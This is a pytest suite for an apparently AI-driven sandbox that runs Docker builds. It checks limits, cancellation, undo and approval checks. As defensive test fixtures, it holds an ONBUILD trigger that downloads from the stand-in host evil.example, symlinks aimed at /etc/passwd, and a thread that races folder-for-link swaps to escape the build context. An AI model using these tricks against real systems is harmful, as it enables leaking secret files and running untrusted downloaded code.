"""Builds on a real Engine: what is sent, what is held back, what is left, and what undo takes back."""

from __future__ import annotations

import os
import tempfile
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from assistant.config import Limits
from assistant.errors import RefusedPlanError
from assistant.execution.engine import DockerEngine
from assistant.execution.undoing import undo
from assistant.values import Decision, Ended, JsonObject, Output, Progress, Started
from tests.engine_images import foreign, identity, images_kept, names, remove_all, run_after
from tests.images import make_image
from tests.runs import Bench, bench

__all__ = ["images_kept"]
pytestmark = [pytest.mark.engine, pytest.mark.usefixtures("images_kept")]


@pytest.fixture
def at(engine: DockerEngine, tmp_path: Path) -> Iterator[Bench]:
    at = bench(engine, tmp_path, limits=Limits(time_seconds=120.0))
    (at.workspace / "app").mkdir()
    yield at
    at.ledger.close()


def write(at: Bench, dockerfile: str, **files: str) -> Path:
    folder = at.workspace / "app"
    (folder / "Dockerfile").write_text(dockerfile)
    for name, text in files.items():
        (folder / name.replace("__", ".")).write_text(text)
    return folder


def test_an_image_is_built_used_and_taken_back(at: Bench, engine: DockerEngine) -> None:
    write(
        at,
        "ARG BASE=busybox\nFROM ${BASE} AS Made\nRUN echo made > /made\n"
        'FROM busybox\nCOPY --from=Made /made /made\nCOPY word /word\nCMD ["cat", "/made", "/word"]\n',
        word="hello\n",
    )
    before = names(engine)
    seen: list[Progress] = []
    run = at.carry_out(
        at.sandbox.review("docker build -t mine:1 -t mine:2 app"),
        on_event=lambda event: seen.append(event) if isinstance(event, Progress) else None,
    )
    assert (run.outcome, run.error) == ("succeeded", None)
    assert any(item.status.startswith("Step 3/") and item.total for item in seen)
    assert identity(engine, "mine:1") == identity(engine, "mine:2")
    labels = engine.inspect("image", "mine:1")["Config"]["Labels"]
    assert labels == {"docknotes.owner": "docknotes", "docknotes.run": run.id}
    assert at.line("docker run --rm mine:1").output == "made\nhello\n"
    assert all(item.owned for item in at.sandbox.touched(at.sandbox.review("docker rmi mine:1 mine:2")))
    undone = undo(engine, [run])
    assert undone.left == ()
    assert undone.stays == ()
    assert names(engine) == before


def test_a_step_that_fails_leaves_what_undo_takes_back(at: Bench, engine: DockerEngine) -> None:
    write(at, "FROM busybox\nRUN echo one\nRUN exit 7\n")
    before = names(engine)
    run = at.line("docker build --no-cache -t mine app")
    assert run.outcome == "failed"
    assert run.error is not None and "exit 7" in run.error.en
    assert [item.kind for item in run.created] == ["image"]
    assert undo(engine, [run]).left == ()
    assert names(engine) == before


def running_step(engine: DockerEngine) -> JsonObject:
    """The container of the step that runs: its output may come before the Engine lists it."""
    deadline = time.monotonic() + 60
    while not (found := engine.list_containers()):
        assert time.monotonic() < deadline
        time.sleep(0.05)
    return found[0]


def test_a_step_is_bounded_without_a_network_and_cancelled_at_once(at: Bench, engine: DockerEngine) -> None:
    write(at, "FROM busybox\nRUN echo begun; sleep 60\n")
    verdict = at.sandbox.review("docker build --no-cache -t mine app")
    events = at.sandbox.run(verdict, approval=at.sandbox.approve(verdict, by="test"))
    run_id = ""
    cancelled = ended = 0.0
    for event in events:
        if isinstance(event, Started):
            run_id = event.run
        elif isinstance(event, Output) and event.text.startswith("begun"):
            step = running_step(engine)
            host = engine.inspect("container", str(step["Id"]))["HostConfig"]
            assert host["NetworkMode"] == "none"
            assert host["Memory"] == host["MemorySwap"] == Limits().memory_bytes
            assert (host["CpuPeriod"], host["CpuQuota"]) == (100_000, 200_000)
            cancelled = time.monotonic()
            at.sandbox.cancel(run_id)
        elif isinstance(event, Ended):
            ended = time.monotonic()
            assert event.run.outcome == "cancelled"
    assert cancelled
    assert ended - cancelled < 45  # a second; more only where the machine has none to spare
    deadline = time.monotonic() + 60
    while engine.list_containers(all=True) and time.monotonic() < deadline:
        time.sleep(0.1)
    assert engine.list_containers(all=True) == []


def test_a_build_ends_with_its_time(engine: DockerEngine, tmp_path: Path) -> None:
    at = bench(engine, tmp_path, limits=Limits(time_seconds=3.0))
    (at.workspace / "app").mkdir()
    write(at, "FROM busybox\nRUN sleep 60\n")
    run = at.line("docker build --no-cache app")
    assert run.outcome == "timed_out"
    deadline = time.monotonic() + 60
    while engine.list_containers(all=True) and time.monotonic() < deadline:
        time.sleep(0.1)
    assert engine.list_containers(all=True) == []
    assert undo(engine, [run]).left == ()
    at.ledger.close()


def test_links_are_sent_as_links_and_what_is_ignored_is_not_sent(at: Bench, engine: DockerEngine) -> None:
    secret = at.workspace.parent / "secret"
    secret.write_text("theirs")
    folder = write(
        at,
        "FROM busybox\nCOPY . /all\nRUN ls -la /all /all/sub; cat /all/out || true\n",
        kept="1", left="2", __dockerignore="left\n# a comment\n*.log\n!kept.log\nsub/deep\n",
    )  # fmt: skip
    (folder / "out").symlink_to(secret)
    (folder / "folder").symlink_to("/etc")
    (folder / "a.log").write_text("3")
    (folder / "kept.log").write_text("4")
    (folder / "sub" / "deep").mkdir(parents=True)
    (folder / "sub" / "deep" / "file").write_text("5")
    (folder / "sub" / "near").write_text("6")
    os.mkfifo(folder / "pipe")
    run = at.line("docker build --no-cache -t mine app")
    assert run.outcome == "succeeded"
    assert "theirs" not in run.output
    listed = run.output
    assert f"out -> {secret}" in listed
    assert "folder -> /etc" in listed
    assert all(name in listed for name in ("kept", "kept.log", "near", "Dockerfile"))
    assert not any(name in listed for name in ("left", "a.log", "deep", "pipe"))
    assert undo(engine, [run]).left == ()


def test_a_link_out_of_the_context_is_refused_by_the_builder(at: Bench, engine: DockerEngine) -> None:
    folder = write(at, "FROM busybox\nCOPY out /out\n")
    (folder / "out").symlink_to("/etc/passwd")
    run = at.line("docker build --no-cache app")
    assert run.outcome == "failed"
    assert undo(engine, [run]).left == ()


def test_too_much_is_not_sent(at: Bench, monkeypatch: pytest.MonkeyPatch) -> None:
    from assistant.execution.others import context

    folder = write(at, "FROM busybox\n")
    with (folder / "large").open("wb") as file:
        file.truncate(context.MOST_BYTES + 1)
    run = at.line("docker build app")
    assert run.outcome == "failed"
    assert run.error is not None and "512 MiB" in run.error.en and "512 MiB" in run.error.zh
    (folder / ".dockerignore").write_text("large")
    ended = at.line("docker build -t mine app")
    assert ended.outcome == "succeeded"
    assert undo(at.engine, [ended]).left == ()


def test_a_dockerfile_changed_after_the_approval_is_not_built(at: Bench) -> None:
    write(at, "FROM busybox\nRUN echo one\n")
    with pytest.raises(RefusedPlanError) as refused:
        run_after(at, "docker build app", lambda: write(at, "FROM busybox\nADD https://e.example/x /\n"))
    assert refused.value.text.zh
    write(at, "FROM busybox\nRUN echo one\n")
    run = run_after(at, "docker build app", lambda: write(at, "FROM busybox\nRUN echo two\n"))
    assert run.outcome == "failed"
    assert run.error is not None and "changed since" in run.error.en
    assert run.created == ()


def test_an_image_built_on_is_the_one_that_was_approved(
    at: Bench, engine: DockerEngine, engine_address: str
) -> None:
    foreign(engine_address, "base:1", "one")
    first = identity(engine, "base:1")
    write(at, "FROM base:1\nRUN cat /word\n")
    run = run_after(at, "docker build app", lambda: foreign(engine_address, "base:1", "two"))
    assert run.outcome == "failed"
    assert run.error is not None and "another one" in run.error.en
    remove_all(engine, first, "base:1")


def test_instructions_an_image_brings_along_are_judged_too(
    at: Bench, engine: DockerEngine, engine_address: str
) -> None:
    trigger = "ONBUILD ADD https://evil.example/x /x"
    make_image(engine_address, "base:1", {"word": "x"}, (trigger,))
    write(at, "FROM base:1\n")
    run = at.line("docker build app")
    assert run.outcome == "failed"
    assert run.error is not None and "download it first" in run.error.en
    engine.remove_image("base:1")


def test_a_name_that_means_another_image_is_confirmed(
    at: Bench, engine: DockerEngine, engine_address: str
) -> None:
    foreign(engine_address, "theirs:latest")
    theirs = identity(engine, "theirs")
    write(at, "FROM busybox\nLABEL docknotes.owner=docknotes\n")
    verdict = at.sandbox.review("docker build -t theirs app")
    assert verdict.decision is Decision.ASK
    with pytest.raises(RefusedPlanError, match="theirs"):
        at.sandbox.approve(verdict, by="test")
    run = at.carry_out(verdict, confirmed=["docker.io/library/theirs:latest"])
    assert run.outcome == "succeeded"
    undone = undo(engine, [run])
    assert undone.left == ()
    assert any("does not go back" in text.en for text in undone.stays)
    remove_all(engine, theirs)


def test_a_folder_swapped_for_a_link_is_not_packed(at: Bench) -> None:
    write(at, "FROM busybox\nCOPY . /\n")
    elsewhere = at.workspace.parent / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "Dockerfile").write_text("FROM busybox\nCOPY . /\n")
    (elsewhere / "secret").write_text("theirs")

    def swap() -> None:
        (at.workspace / "app").rename(at.workspace / "before")
        (at.workspace / "app").symlink_to(elsewhere)

    with pytest.raises(RefusedPlanError):
        run_after(at, "docker build app", swap)


def test_a_folder_swapped_while_it_is_packed_leads_nowhere(tmp_path: Path) -> None:
    """Somebody swaps a folder of the context for a link out of it and back, as fast as they can."""
    import tarfile

    from assistant.errors import ExecutionError
    from assistant.execution.others.context import packed

    workspace, outside = tmp_path / "ws", tmp_path / "outside"
    (workspace / "app" / "sub").mkdir(parents=True)
    outside.mkdir()
    for folder, text in ((workspace / "app" / "sub", "ours"), (outside, "theirs")):
        (folder / "file").write_text(text)
    stop = threading.Event()
    sub, kept = workspace / "app" / "sub", workspace / "kept"

    def swap() -> None:
        while not stop.is_set():
            sub.rename(kept)
            sub.symlink_to(outside)
            sub.unlink()
            kept.rename(sub)

    thread = threading.Thread(target=swap)
    thread.start()
    try:
        for _ in range(300):
            with tempfile.TemporaryFile() as file:
                try:
                    packed(file, workspace, "app", dockerfile="Dockerfile", text="x", stop=lambda: None)
                except (ExecutionError, RefusedPlanError):
                    continue
                file.seek(0)
                with tarfile.open(fileobj=file) as tar:
                    texts = {m.name: tar.extractfile(m) for m in tar if m.isreg()}
                    read = {name: data.read() for name, data in texts.items() if data is not None}
                assert read.get("sub/file", b"ours") == b"ours"
    finally:
        stop.set()
        thread.join()
